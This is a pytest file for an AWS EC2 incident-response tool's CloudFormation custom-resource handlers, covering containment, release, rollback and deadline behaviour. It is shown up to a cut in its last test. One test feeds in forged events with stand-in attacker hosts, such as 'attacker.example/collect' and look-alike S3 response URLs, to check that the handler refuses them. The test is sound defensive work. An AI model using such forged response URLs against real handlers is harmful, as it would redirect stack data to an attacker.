"""The Lambda handlers against the corrected emulator, driven with real-shaped events.

CloudFormation's side of a custom resource is a pre-signed URL that receives one PUT; here it is a
loopback HTTP server (``ResponseCatcher``), and the tests assert the bodies it received. The Lambda
runtime's context is a small stand-in with a real deadline. The engine is the real one, on the
emulator; slowness is injected at botocore's transport, never by replacing ec2ir code.
"""

from __future__ import annotations

import copy
import json
import threading
import time
import urllib.request
import uuid
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from ec2ir.aws.session import Aws
from ec2ir.core import validate
from ec2ir.core.models import EvidenceRef, HoldStatus, InstanceResult
from ec2ir.engine.facade import Engine
from ec2ir.engine.results import RunReport
from ec2ir.evidence.bucket import default_bucket
from ec2ir.handlers import cloudformation, custom_resource, guardduty
from ec2ir.handlers import finding_addresses as finding_addresses_module
from ec2ir.handlers.finding_addresses import finding_addresses, remote_addresses
from ec2ir.store.state import StateStore
from tests.support.fleets import Fleet
from tests.support.stack import (
    FIXTURES,
    FUNCTION_ARN,
    STACK_ID,
    STACK_NAME,
    LambdaRuntimeContext,
    Received,
    ResponseCatcher,
    StackStatus,
)

TABLE = "incident-ir-7-StateTable-1A2B3C4D5E6F"
CASE = "IR-2026-007"


# -- CloudFormation's and Lambda's side ---------------------------------------------------------------


def cfn_event(
    request_type: str,
    url: str,
    instance_ids: list[str],
    *,
    case: str = CASE,
    old: dict[str, Any] | None = None,
    physical_id: str | None = None,
    request_id: str | None = None,
) -> dict[str, Any]:
    """A request as CloudFormation sends it: every property value a string, lists as lists."""
    event: dict[str, Any] = {
        "RequestType": request_type,
        "ServiceToken": FUNCTION_ARN,
        "ResponseURL": url,
        "StackId": STACK_ID,
        "RequestId": request_id or str(uuid.uuid4()),
        "LogicalResourceId": "Containment",
        "ResourceType": "Custom::Containment",
        "ResourceProperties": properties(instance_ids, case),
    }
    if old is not None:
        event["OldResourceProperties"] = old
    if physical_id is not None:
        event["PhysicalResourceId"] = physical_id
    return event


def properties(instance_ids: list[str], case: str = CASE) -> dict[str, Any]:
    return {
        "ServiceToken": FUNCTION_ARN,
        "ServiceTimeout": "960",
        "CaseId": case,
        "InstanceIds": instance_ids,
        "OfficeCidr": "203.0.113.7",
        "RevokeSessions": "false",
        "Untrack": "true",
    }


def engine_factory(aws: Aws) -> Callable[[], Engine]:
    return lambda: Engine(aws, StateStore(aws, TABLE), concurrency=4)


@pytest.fixture
def stack(aws: Aws) -> StackStatus:
    return StackStatus(aws)


def handle(
    event: Any, catcher: ResponseCatcher, factory: Callable[[], Engine], **kwargs: Any
) -> dict[str, Any]:
    """``custom_resource.handle`` for the test stack, with answers allowed to the loopback catcher."""
    return custom_resource.handle(
        event,
        kwargs.pop("context", None) or LambdaRuntimeContext(),
        factory,
        own_stack_id=kwargs.pop("own_stack_id", STACK_ID),
        extra_response_origins={catcher.origin},
        **kwargs,
    )


def run(aws: Aws, catcher: ResponseCatcher, event: dict[str, Any], remaining_ms: int = 900_000) -> Received:
    """Invoke the handler as Lambda would and return what CloudFormation received."""
    name = event["ResponseURL"].split("/cloudformation-responses/", 1)[1].split("?", 1)[0]
    returned = handle(event, catcher, engine_factory(aws), context=LambdaRuntimeContext(remaining_ms))
    answer = catcher.answers(name)[-1]
    assert answer.body == returned
    assert answer.headers.get("Content-Type", "") == ""  # the URL is signed without one
    return answer


@pytest.fixture
def incident(fleet: Fleet) -> dict[str, Any]:
    """A compromised fleet in one VPC: a two-ENI instance in different groups, and two others."""
    vpc = fleet.vpc(10)
    web, db, admin = (fleet.group(vpc, name) for name in ("web", "db", "admin"))
    two_enis = fleet.instance(vpc, [web], extra_enis=[[db, admin]])
    second = fleet.instance(vpc, [web, admin])
    third = fleet.instance(vpc, [db])
    ids = [two_enis, second, third]
    return {"vpc": vpc, "ids": ids, "before": fleet.eni_groups(ids)}


def isolation_group(fleet: Fleet, vpc_id: str) -> str:
    groups = fleet.ec2.describe_security_groups(
        Filters=[
            {"Name": "vpc-id", "Values": [vpc_id]},
            {"Name": "tag:ec2ir:role", "Values": ["isolation"]},
        ]
    )["SecurityGroups"]
    assert len(groups) == 1
    return str(groups[0]["GroupId"])


def wait_for_workers(timeout: float = 20.0) -> None:
    """Let handler work that outlived its answer finish, so it cannot touch the next test."""
    for thread in threading.enumerate():
        if thread.name.startswith(custom_resource.WORKER_THREAD_PREFIX):
            thread.join(timeout)
            assert not thread.is_alive()


# -- Custom::Containment --------------------------------------------------------------------------------


@pytest.mark.evidence
def test_create_isolates_every_eni_and_answers_with_the_groups(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any]
) -> None:
    ids = incident["ids"]
    answer = run(aws, catcher, cfn_event("Create", catcher.url("create"), ids))

    body = answer.body
    assert body["Status"] == "SUCCESS", body["Reason"]
    assert body["PhysicalResourceId"] == f"ec2ir:{CASE}:{STACK_NAME}"
    assert body["StackId"] == STACK_ID and body["LogicalResourceId"] == "Containment"
    iso = isolation_group(fleet, incident["vpc"])
    key = f"{CASE}/cloudformation/{STACK_NAME}/{body['RequestId']}/snapshot-ids.json"
    assert body["Data"] == {
        "CaseId": CASE,
        "IsolationGroupIds": iso,
        "ForensicGroupIds": body["Data"]["ForensicGroupIds"],
        "ContainedCount": "3",
        "FailedCount": "0",
        "FailedInstanceIds": "",
        "SnapshotIds": body["Data"]["SnapshotIds"],
        "SnapshotIdsKey": key,
    }
    snapshots = fleet.ec2.describe_snapshots(
        OwnerIds=["self"], Filters=[{"Name": "tag:ec2ir:case", "Values": [CASE]}]
    )["Snapshots"]
    assert sorted(body["Data"]["SnapshotIds"].split(",")) == sorted(s["SnapshotId"] for s in snapshots)
    # The full list, per instance, is one object in the evidence bucket: the answer may not hold it.
    stored = aws.client("s3").get_object(Bucket=default_bucket("123456789012", "us-east-1"), Key=key)
    listed = json.loads(stored["Body"].read())
    assert listed["stack_id"] == STACK_ID and listed["case_id"] == CASE
    assert sorted(s for ids in listed["snapshot_ids"].values() for s in ids) == sorted(
        s["SnapshotId"] for s in snapshots
    )
    assert set(listed["snapshot_ids"]) == set(ids)
    assert {s["VolumeId"] for s in snapshots} == {
        m["Ebs"]["VolumeId"]
        for r in fleet.ec2.describe_instances(InstanceIds=ids)["Reservations"]
        for i in r["Instances"]
        for m in i["BlockDeviceMappings"]
    }
    assert body["Data"]["ForensicGroupIds"].startswith("sg-")
    assert "details: CloudWatch log stream" in body["Reason"]
    assert set(fleet.eni_groups(ids).values()) == {(iso,)}
    store = StateStore(aws, TABLE)
    for instance_id in ids:
        hold = store.get(instance_id)
        assert hold is not None and hold.case_id == CASE and hold.status is HoldStatus.ISOLATED
        assert {eni: tuple(sorted(g)) for eni, g in hold.originals.items()} == {
            eni: groups for eni, groups in incident["before"].items() if eni in hold.originals
        }


def test_the_engine_keeps_a_runs_snapshot_list_where_its_evidence_went(aws: Aws) -> None:
    # The stack's handler asks the engine for this (the answer's 4 KB cannot hold the list).
    actor = "arn:aws:sts::123456789012:assumed-role/ec2ir-engine/incident-ir-7"
    snapped, bare = "i-0000000000000000a", "i-0000000000000000b"
    metadata = EvidenceRef("metadata", f"s3://ec2ir-case-evidence/{CASE}/{snapped}/metadata.json")
    snapshots = (EvidenceRef("snapshot", "snap-0000000000000000a"), metadata)
    report = RunReport(
        "isolate",
        CASE,
        actor,
        [
            InstanceResult(snapped, "isolate", ok=True, detail="isolated", evidence=snapshots),
            InstanceResult(bare, "isolate", ok=True, detail="isolated"),
        ],
    )
    about = {"stack_id": STACK_ID, "request_id": "r-1"}
    engine = Engine(aws, StateStore(aws, TABLE), concurrency=4)

    stored = engine.store_snapshot_list(report, f"cloudformation/{STACK_NAME}/r-1", about)

    # No bucket named for the engine: the one the run's evidence went to.
    key = f"{CASE}/cloudformation/{STACK_NAME}/r-1/snapshot-ids.json"
    assert (stored.key, stored.problem) == (key, "")
    listed = json.loads(aws.client("s3").get_object(Bucket="ec2ir-case-evidence", Key=key)["Body"].read())
    assert listed == {**about, "case_id": CASE, "snapshot_ids": {snapped: ["snap-0000000000000000a"]}}

    # A run that took no snapshot stores nothing, and that is no problem.
    no_snapshots = RunReport("isolate", CASE, actor, [report.results[1]])
    assert engine.store_snapshot_list(no_snapshots, "anywhere", about) == ("", "")
    # Snapshots but no bucket known anywhere: not stored, and the answer says why.
    no_bucket = RunReport("isolate", CASE, actor, [replace(report.results[0], evidence=snapshots[:1])])
    assert engine.store_snapshot_list(no_bucket, "anywhere", about) == (
        "",
        "the list of snapshot ids was not stored: no evidence bucket is known",
    )


def test_the_engine_names_the_instances_that_are_gone(
    aws: Aws, fleet: Fleet, incident: dict[str, Any]
) -> None:
    # What the stack's Delete says of a released instance depends on it.
    terminated, alive = incident["ids"][1:3]
    never = "i-0fffffffffffffff0"
    fleet.ec2.modify_instance_attribute(InstanceId=terminated, DisableApiTermination={"Value": False})
    fleet.ec2.terminate_instances(InstanceIds=[terminated])

    gone = Engine(aws, StateStore(aws, TABLE), concurrency=4).gone([never, alive, terminated])

    assert gone == [never, terminated]


def test_create_retried_with_the_same_request_id_answers_alike_and_calls_no_ec2(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any]
) -> None:
    ids = incident["ids"]
    event = cfn_event("Create", catcher.url("create"), ids, request_id="7c9e6679-7425-40de-944b-e07fc1f90ae7")
    first = run(aws, catcher, event)
    after_first = fleet.eni_groups(ids)
    holds_first = {i: StateStore(aws, TABLE).get(i) for i in ids}

    ec2_calls: list[str] = []
    aws.ec2().meta.events.register("before-call.ec2", lambda model, **_: ec2_calls.append(model.name))
    second = run(aws, catcher, copy.deepcopy(event))

    assert second.body == first.body
    assert ec2_calls == []  # the recorded answer was sent again; nothing was redone
    assert fleet.eni_groups(ids) == after_first
    assert {i: StateStore(aws, TABLE).get(i) for i in ids} == holds_first


def test_update_isolates_added_and_releases_removed_without_touching_kept_originals(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any], stack: StackStatus
) -> None:
    removed, kept, added = incident["ids"]
    before = incident["before"]
    create = run(aws, catcher, cfn_event("Create", catcher.url("create"), [removed, kept]))
    physical_id = create.body["PhysicalResourceId"]
    store = StateStore(aws, TABLE)
    kept_hold = store.get(kept)

    stack.status = "UPDATE_IN_PROGRESS"
    update = cfn_event(
        "Update",
        catcher.url("update"),
        [kept, added],
        old=properties([removed, kept]),
        physical_id=physical_id,
    )
    body = run(aws, catcher, update).body

    assert body["Status"] == "SUCCESS", body["Reason"]
    assert body["PhysicalResourceId"] == physical_id
    assert f"released {removed}" in body["Reason"]
    iso = isolation_group(fleet, incident["vpc"])
    removed_now = fleet.eni_groups([removed])
    assert removed_now == {eni: before[eni] for eni in removed_now}
    assert set(fleet.eni_groups([kept, added]).values()) == {(iso,)}
    assert store.get(kept) == kept_hold  # same originals, same episode: never re-recorded
    removed_hold = store.get(removed)
    assert removed_hold is not None and removed_hold.status is HoldStatus.RELEASED


def test_an_update_that_removes_every_instance_releases_them_all_and_delete_still_succeeds(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any], stack: StackStatus
) -> None:
    ids, before = incident["ids"], incident["before"]
    create = run(aws, catcher, cfn_event("Create", catcher.url("create"), ids))
    physical_id = create.body["PhysicalResourceId"]
    stack.status = "UPDATE_IN_PROGRESS"

    update = cfn_event("Update", catcher.url("update"), [], old=properties(ids), physical_id=physical_id)
    body = run(aws, catcher, update).body

    assert body["Status"] == "SUCCESS", body["Reason"]
    assert body["PhysicalResourceId"] == physical_id
    assert fleet.eni_groups(ids) == before
    holds = [StateStore(aws, TABLE).get(instance) for instance in ids]
    assert all(hold is not None and hold.status is HoldStatus.RELEASED for hold in holds)
    delete = cfn_event("Delete", catcher.url("delete"), [], physical_id=physical_id)
    assert run(aws, catcher, delete).body["Status"] == "SUCCESS"
    assert fleet.eni_groups(ids) == before


def test_a_create_with_an_instance_that_fails_succeeds_and_names_it(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any], stack: StackStatus
) -> None:
    # SUCCESS, not FAILED: a FAILED Create rolls the stack back, and nothing contained may depend on
    # every other instance (here one that no longer exists) succeeding too.
    real = incident["ids"][0]
    missing = "i-0123456789abcdef0"
    create = run(aws, catcher, cfn_event("Create", catcher.url("create"), [real, missing])).body

    assert create["Status"] == "SUCCESS", create["Reason"]
    assert create["Reason"].startswith(f"1 of 2 instance(s) failed under case {CASE}: {missing}: isolate: ")
    assert f"{missing}: isolate: InvalidInstanceID.NotFound" in create["Reason"]
    assert "contained 1 instance(s)" in create["Reason"]
    assert (create["Data"]["FailedInstanceIds"], create["Data"]["FailedCount"]) == (missing, "1")
    assert create["Data"]["ContainedCount"] == "1"
    assert create["PhysicalResourceId"] == f"ec2ir:{CASE}:{STACK_NAME}"  # Delete will carry it
    assert set(fleet.eni_groups([real]).values()) == {(isolation_group(fleet, incident["vpc"]),)}

    stack.status = "DELETE_IN_PROGRESS"
    delete = cfn_event(
        "Delete", catcher.url("delete"), [real, missing], physical_id=create["PhysicalResourceId"]
    )
    body = run(aws, catcher, delete).body

    assert body["Status"] == "SUCCESS", body["Reason"]
    assert body["PhysicalResourceId"] == create["PhysicalResourceId"]
    assert f"released {real}" in body["Reason"]
    assert f"{missing} no longer exist" in body["Reason"]
    real_now = fleet.eni_groups([real])
    assert real_now == {eni: incident["before"][eni] for eni in real_now}


def test_delete_after_a_create_refused_for_bad_input_succeeds_and_changed_nothing(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any]
) -> None:
    create = run(aws, catcher, cfn_event("Create", catcher.url("create"), ["web-server-1"])).body
    assert create["Status"] == "FAILED"
    assert "malformed instance id: 'web-server-1'" in create["Reason"]

    delete = cfn_event(
        "Delete", catcher.url("delete"), ["web-server-1"], physical_id=create["PhysicalResourceId"]
    )
    body = run(aws, catcher, delete).body

    assert body["Status"] == "SUCCESS"
    assert "nothing to release" in body["Reason"]
    assert fleet.ec2ir_groups() == []
    assert fleet.eni_groups(incident["ids"]) == incident["before"]


def test_delete_when_already_released_by_hand_succeeds(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any], stack: StackStatus
) -> None:
    ids = incident["ids"]
    create = run(aws, catcher, cfn_event("Create", catcher.url("create"), ids)).body
    # A responder released everything with the CLI's engine before deleting the stack.
    by_hand = engine_factory(aws)().release(ids, CASE)
    assert not by_hand.failed
    stack.status = "DELETE_IN_PROGRESS"

    delete = cfn_event("Delete", catcher.url("delete"), ids, physical_id=create["PhysicalResourceId"])
    body = run(aws, catcher, delete).body

    assert body["Status"] == "SUCCESS", body["Reason"]
    assert "nothing was still held" in body["Reason"]
    assert all(f"{i} was not held" in body["Reason"] for i in ids)
    assert fleet.eni_groups(ids) == incident["before"]


def test_delete_succeeds_when_an_isolated_instance_was_terminated(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any], stack: StackStatus
) -> None:
    gone, alive = incident["ids"][:2]
    create = run(aws, catcher, cfn_event("Create", catcher.url("create"), [gone, alive])).body
    fleet.ec2.modify_instance_attribute(InstanceId=gone, DisableApiTermination={"Value": False})
    fleet.ec2.terminate_instances(InstanceIds=[gone])
    stack.status = "DELETE_IN_PROGRESS"

    delete = cfn_event(
        "Delete", catcher.url("delete"), [gone, alive], physical_id=create["PhysicalResourceId"]
    )
    body = run(aws, catcher, delete).body

    assert body["Status"] == "SUCCESS", body["Reason"]
    assert f"{gone} no longer exist" in body["Reason"] and f"released {alive}" in body["Reason"]


def test_a_stack_delete_closes_a_terminated_instances_hold_as_release_does(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any], stack: StackStatus
) -> None:
    # The same rule as `ec2ir release`: a terminated instance has nothing left to put back, but its
    # hold is closed and the role's revoke-sessions deny policy goes with the case.
    gone, alive = incident["ids"][1:3]
    iam = aws.client("iam")
    iam.create_role(RoleName="app-role", AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17"}))
    profile = iam.create_instance_profile(InstanceProfileName="app-profile")["InstanceProfile"]
    iam.add_role_to_instance_profile(InstanceProfileName="app-profile", RoleName="app-role")
    fleet.ec2.associate_iam_instance_profile(IamInstanceProfile={"Arn": profile["Arn"]}, InstanceId=gone)
    create_event = cfn_event("Create", catcher.url("create"), [gone, alive])
    create_event["ResourceProperties"]["RevokeSessions"] = "true"
    create = run(aws, catcher, create_event).body
    assert create["Status"] == "SUCCESS", create["Reason"]
    assert iam.list_role_policies(RoleName="app-role")["PolicyNames"]  # the deny is in place
    fleet.ec2.modify_instance_attribute(InstanceId=gone, DisableApiTermination={"Value": False})
    fleet.ec2.terminate_instances(InstanceIds=[gone])
    stack.status = "DELETE_IN_PROGRESS"

    delete = cfn_event(
        "Delete", catcher.url("delete"), [gone, alive], physical_id=create["PhysicalResourceId"]
    )
    delete["ResourceProperties"]["RevokeSessions"] = "true"
    body = run(aws, catcher, delete).body

    assert body["Status"] == "SUCCESS", body["Reason"]
    assert f"{gone} no longer exist" in body["Reason"] and f"released {alive}" in body["Reason"]
    hold = StateStore(aws, TABLE).get(gone)
    assert hold is not None and hold.status is HoldStatus.RELEASED
    assert iam.list_role_policies(RoleName="app-role")["PolicyNames"] == []


def test_an_instance_guardduty_contained_first_stays_with_its_case(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any], stack: StackStatus
) -> None:
    early, listed = incident["ids"][:2]
    auto = contain(aws, finding("ec2_backdoor_high.json", early))
    assert auto["outcome"] == "contained"

    create = run(aws, catcher, cfn_event("Create", catcher.url("create"), [early, listed])).body
    assert create["Status"] == "SUCCESS", create["Reason"]
    assert f"{early} stays with the case that holds it" in create["Reason"]
    assert create["Data"]["ContainedCount"] == "2"

    stack.status = "DELETE_IN_PROGRESS"
    delete = cfn_event(
        "Delete", catcher.url("delete"), [early, listed], physical_id=create["PhysicalResourceId"]
    )
    body = run(aws, catcher, delete).body
    assert body["Status"] == "SUCCESS", body["Reason"]
    assert f"released {listed}" in body["Reason"]
    assert f"{early} is held by another case and was left alone" in body["Reason"]
    hold = StateStore(aws, TABLE).get(early)
    assert hold is not None and hold.case_id == auto["case"] and hold.status is HoldStatus.ISOLATED


def test_a_case_change_is_refused_while_held_and_its_rollback_succeeds(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any]
) -> None:
    ids = incident["ids"][:1]
    physical_id = run(aws, catcher, cfn_event("Create", catcher.url("create"), ids)).body[
        "PhysicalResourceId"
    ]
    change = cfn_event(
        "Update", catcher.url("change"), ids, case="IR-2026-008", old=properties(ids), physical_id=physical_id
    )
    refused = run(aws, catcher, change).body
    assert refused["Status"] == "FAILED"
    assert f"CaseId cannot change from {CASE} to IR-2026-008" in refused["Reason"]

    # CloudFormation then rolls back with the sides swapped; nothing is held under the new case.
    rollback = cfn_event(
        "Update",
        catcher.url("rollback"),
        ids,
        old=properties(ids, case="IR-2026-008"),
        physical_id=physical_id,
    )
    body = run(aws, catcher, rollback).body
    assert body["Status"] == "SUCCESS", body["Reason"]
    hold = StateStore(aws, TABLE).get(ids[0])
    assert hold is not None and hold.case_id == CASE and hold.status is HoldStatus.ISOLATED


class HeldOnce:
    """Holds up the first call it is registered for until released, as a slow or throttled AWS
    would: whether the handler answered without waiting for it is then a fact, not a race."""

    def __init__(self) -> None:
        self.calls = 0
        self.holding, self.released = threading.Event(), threading.Event()

    def __call__(self, **_: Any) -> None:
        self.calls += 1
        if self.calls == 1:
            self.holding.set()
            self.released.wait(120)
            self.holding.clear()


def test_the_deadline_path_answers_failed_before_lambda_would_stop(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any], stack: StackStatus
) -> None:
    ids = incident["ids"]
    slow = HeldOnce()
    aws.ec2().meta.events.register("before-send.ec2.DescribeInstances", slow)
    started = time.monotonic()
    try:
        body = run(aws, catcher, cfn_event("Create", catcher.url("create"), ids), remaining_ms=3000).body
        answered_while_held = slow.holding.is_set()
    finally:
        slow.released.set()
    answered_after = catcher.only_answer("create").at - started

    assert answered_while_held  # the answer did not wait for the work
    assert answered_after < 3.0, f"answered {answered_after:.2f}s after start, past the 3s deadline"
    assert body["Status"] == "FAILED"
    assert "did not finish within the function's time limit" in body["Reason"]
    assert slow.calls == 1

    # The work outlived the answer and finished; the rollback's Delete keeps what it contained ...
    wait_for_workers()
    iso = isolation_group(fleet, incident["vpc"])
    stack.status = "ROLLBACK_IN_PROGRESS"
    rollback = cfn_event("Delete", catcher.url("rollback"), ids, physical_id=body["PhysicalResourceId"])
    kept = run(aws, catcher, rollback).body
    assert kept["Status"] == "SUCCESS", kept["Reason"]
    assert "STAY CONTAINED" in kept["Reason"]
    assert set(fleet.eni_groups(ids).values()) == {(iso,)}
    # ... and deleting the stack (after ROLLBACK_COMPLETE) releases it.
    stack.status = "DELETE_IN_PROGRESS"
    delete = cfn_event("Delete", catcher.url("delete"), ids, physical_id=body["PhysicalResourceId"])
    released = run(aws, catcher, delete).body
    assert released["Status"] == "SUCCESS", released["Reason"]
    assert fleet.eni_groups(ids) == incident["before"]


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"RequestType": "Replace"}, "unknown RequestType 'Replace'"),
        ({"LogicalResourceId": None}, "malformed request: the request lacks LogicalResourceId"),
        ({"ResourceProperties": ["not", "an", "object"]}, "ResourceProperties must be an object"),
    ],
)
def test_a_malformed_request_is_still_answered(
    aws: Aws, catcher: ResponseCatcher, change: dict[str, Any], why: str
) -> None:
    event = cfn_event("Create", catcher.url("odd"), ["i-0123456789abcdef0"])
    for key, value in change.items():
        if value is None:
            del event[key]
        else:
            event[key] = value
    body = run(aws, catcher, event).body
    assert body["Status"] == "FAILED"
    assert why in body["Reason"]


def inbox(aws: Aws) -> tuple[str, Callable[[], list[dict[str, Any]]]]:
    """An SNS topic as the stack's, and a way to read what it delivered (through an SQS queue)."""
    sns, sqs = aws.client("sns"), aws.client("sqs")
    topic = sns.create_topic(Name="ec2ir-notifications")["TopicArn"]
    queue = sqs.create_queue(QueueName="ec2ir-inbox")["QueueUrl"]
    queue_arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"][
        "QueueArn"
    ]
    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=queue_arn)

    def read() -> list[dict[str, Any]]:
        messages = sqs.receive_message(QueueUrl=queue, MaxNumberOfMessages=10, WaitTimeSeconds=0)
        return [json.loads(m["Body"]) for m in messages.get("Messages", [])]

    return topic, read


@pytest.mark.parametrize("status", ["ROLLBACK_IN_PROGRESS", "UPDATE_COMPLETE_CLEANUP_IN_PROGRESS", None])
def test_a_delete_that_is_not_the_stacks_deletion_keeps_every_instance_held(
    aws: Aws,
    fleet: Fleet,
    catcher: ResponseCatcher,
    incident: dict[str, Any],
    stack: StackStatus,
    status: str | None,
) -> None:
    # A failed Create's rollback (ROLLBACK_IN_PROGRESS), a resource dropped by an update, or a
    # status that cannot be read (None: the emulator does not know the stack): nothing is released.
    ids = incident["ids"]
    topic, read = inbox(aws)
    create = run(aws, catcher, cfn_event("Create", catcher.url("create"), ids)).body
    iso = isolation_group(fleet, incident["vpc"])
    stack.status = status

    delete = cfn_event("Delete", catcher.url("delete"), ids, physical_id=create["PhysicalResourceId"])
    body = handle(delete, catcher, engine_factory(aws), topic_arn=topic)

    assert catcher.only_answer("delete").body == body
    assert body["Status"] == "SUCCESS", body["Reason"]
    assert stack.calls == 1
    command = f"ec2ir release {' '.join(ids)} --case {CASE} --table {TABLE}"
    assert f"STAY CONTAINED under case {CASE}; to release them run: {command}" in body["Reason"]
    assert (f"is {status}" if status else "its status could not be read") in body["Reason"]
    assert set(fleet.eni_groups(ids).values()) == {(iso,)}
    store = StateStore(aws, TABLE)
    assert all(store.get(i).status is HoldStatus.ISOLATED for i in ids)  # type: ignore[union-attr]
    notifications = read()
    assert [n["Subject"] for n in notifications] == [
        f"ec2ir kept 3 instance(s) contained: {STACK_NAME} {status or 'status unknown'}"
    ]
    assert command in notifications[0]["Message"]


def test_an_update_rollback_keeps_the_instances_it_would_release(
    aws: Aws, fleet: Fleet, catcher: ResponseCatcher, incident: dict[str, Any], stack: StackStatus
) -> None:
    first, added, third = incident["ids"]
    physical_id = run(aws, catcher, cfn_event("Create", catcher.url("create"), [first])).body[
        "PhysicalResourceId"
    ]
    stack.status = "UPDATE_IN_PROGRESS"
    update = cfn_event(
        "Update", catcher.url("update"), [first, added], old=properties([first]), physical_id=physical_id
    )
    assert run(aws, catcher, update).body["Status"] == "SUCCESS"

    # Another resource failed the update: CloudFormation rolls back with the sides swapped, which
    # "removes" the instance just added. It stays held.
    stack.status = "UPDATE_ROLLBACK_IN_PROGRESS"
    rollback = cfn_event(
        "Update", catcher.url("rollback"), [first], old=properties([first, added]), physical_id=physical_id
    )
    body = run(aws, catcher, rollback).body

    assert body["Status"] == "SUCCESS", body["Reason"]
    assert body["Reason"].startswith(f"not released: stack {STACK_NAME} is UPDATE_ROLLBACK_IN_PROGRESS")
    assert (
        f"STAY CONTAINED under case {CASE}; to release them run: ec2ir release {added} --case {CASE}"
        in (body["Reason"])
    )
    assert "released" not in body["Reason"].replace("not released", "")
    iso = isolation_group(fleet, incident["vpc"])
    assert set(fleet.eni_groups([first, added]).values()) == {(iso,)}
    hold = StateStore(aws, TABLE).get(added)
    assert hold is not None and hold.status is HoldStatus.ISOLATED
    assert fleet.eni_groups([third]) == {
        e: g for e, g in incident["before"].items() if e in fleet.eni_groups([third])
    }


@pytest.fixture
def outbound_calls(monkeypatch: pytest.MonkeyPatch) -> Callable[[], list[str]]:
    """From the moment it is called: every URL the handler tries to open (none is opened)."""

    def start() -> list[str]:
        opened: list[str] = []

        def urlopen(request: Any, *args: Any, **kwargs: Any) -> Any:
            opened.append(getattr(request, "full_url", str(request)))
            raise AssertionError("no HTTP request may be made for a refused event")

        monkeypatch.setattr(urllib.request, "urlopen", urlopen)
        return opened

    return start


ATTACKER = "arn:aws:cloudformation:us-east-1:123456789012:stack/attacker/0d1e2f30-1d2e-11f0-9c1b-0affd1e2c3b4"
REAL_RESPONSE_URL = (
    "https://cloudformation-custom-resource-response-useast1.s3-us-east-1.amazonaws.com/"
    "arn%3Aaws%3Acloudformation%3Aus-east-1%3A123456789012%3Astack/incident-ir-7/"
    "4f1c2a60-1d2e-11f0-9c1b-0affd1e2c3b4%7CContainment%7C5d478078-13e9-baf0-464a-7ef285ecc786"
    "?AWSAccessKeyId=AKIAIOSFODNN7EXAMPLE&Expires=1773480000&Signature=28UijZePE5I4dvukKQqM%2F9Rf1o4%3D"
)


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"StackId": ATTACKER}, "not for this function's stack"),
        ({"StackId": None}, "not for this function's stack"),
        ({"ResponseURL": "https://attacker.example/collect"}, "is not CloudFormation's response bucket"),
        (
            {"ResponseURL": REAL_RESPONSE_URL.replace("https://", "http://")},
            "is not CloudFormation's response bucket",
        ),
        (
            {"ResponseURL": REAL_RESPONSE_URL.replace(".amazonaws.com/", ".amazonaws.com.attacker.example/")},
            "is not CloudFormation's response bucket",
        ),
        (
            {"ResponseURL": REAL_RESPONSE_URL.replace("response-useast1.", "response-evil.")},
            "is not CloudFormation's response bucket",
        ),
    ],
)
def test_a_forged_delete_releases_nothing_and_sends_nothing(
    aws: Aws,
    fleet: Fleet,
    catcher: ResponseCatcher,
    incident: dict[str, Any],
    stack: StackStatus,
    outbound_calls: Callable[[], list[str]],
    change: dict[str, Any],
    why: str,
) -> None:
    ids = incident["ids"]
    create = run(aws, catcher, cfn_event("Create", catcher.url("create"), ids)).body
    iso = isolation_group(fleet, incident["vpc"])
    no_outbound = outbound_calls()
    stack.status = "DELETE_IN_PROGRESS"  # even while the real stack is being deleted
    forged = cfn_event("Delete", REAL_RESPONSE_URL, ids, physical_id=create["PhysicalResourceId"]) | change
    answered = len(catcher.received)

    def never() -> Engine:
        raise AssertionError("a refused event must not reach the engine")

    returned = handle(forged, catcher, never)

    assert why in returned["Refused"]
    assert no_outbound == [] and len(catcher.received) == answered
    assert stack.calls == 0
    assert set(fleet.eni_groups(ids).values()) == {(iso,)}


def test_the_lambda_entry_point_answers_only_its_own_stack_at_cloudformations_bucket(
    catcher: ResponseCatcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        custom_resource, "engine_from_environment", lambda: pytest.fail("a refused event reached the engine")
    )
    event = cfn_event("Delete", catcher.url("delete"), ["i-0123456789abcdef0"], physical_id="ec2ir:x:y")
    monkeypatch.delenv(custom_resource.STACK_ENV, raising=False)
    assert "EC2IR_STACK_ID is not set" in custom_resource.handler(event, LambdaRuntimeContext())["Refused"]
    # The stack's own id is not enough: the entry point never allows a loopback (test) origin.
    monkeypatch.setenv(custom_resource.STACK_ENV, STACK_ID)
    refused = custom_resource.handler(event, LambdaRuntimeContext())["Refused"]
    assert "is not CloudFormation's response bucket in us-east-1" in refused
    assert catcher.received == []


@pytest.mark.parametrize(
    ("stack_id", "url", "allowed"),
    [
        (STACK_ID, REAL_RESPONSE_URL, True),
        (
            STACK_ID,
            "https://cloudformation-custom-resource-response-useast1.s3.amazonaws.com/k?Signature=s",
            True,
        ),
        (
            STACK_ID,
            "https://cloudformation-custom-resource-response-useast1.s3.us-east-1.amazonaws.com/k",
            True,
        ),
        (STACK_ID, "https://CLOUDFORMATION-custom-resource-response-useast1.s3.amazonaws.com:443/k", True),
        (
            "arn:aws-cn:cloudformation:cn-north-1:123456789012:stack/incident/4f1c2a60",
            "https://cloudformation-custom-resource-response-cnnorth1.s3.cn-north-1.amazonaws.com.cn/k",
            True,
        ),
        (
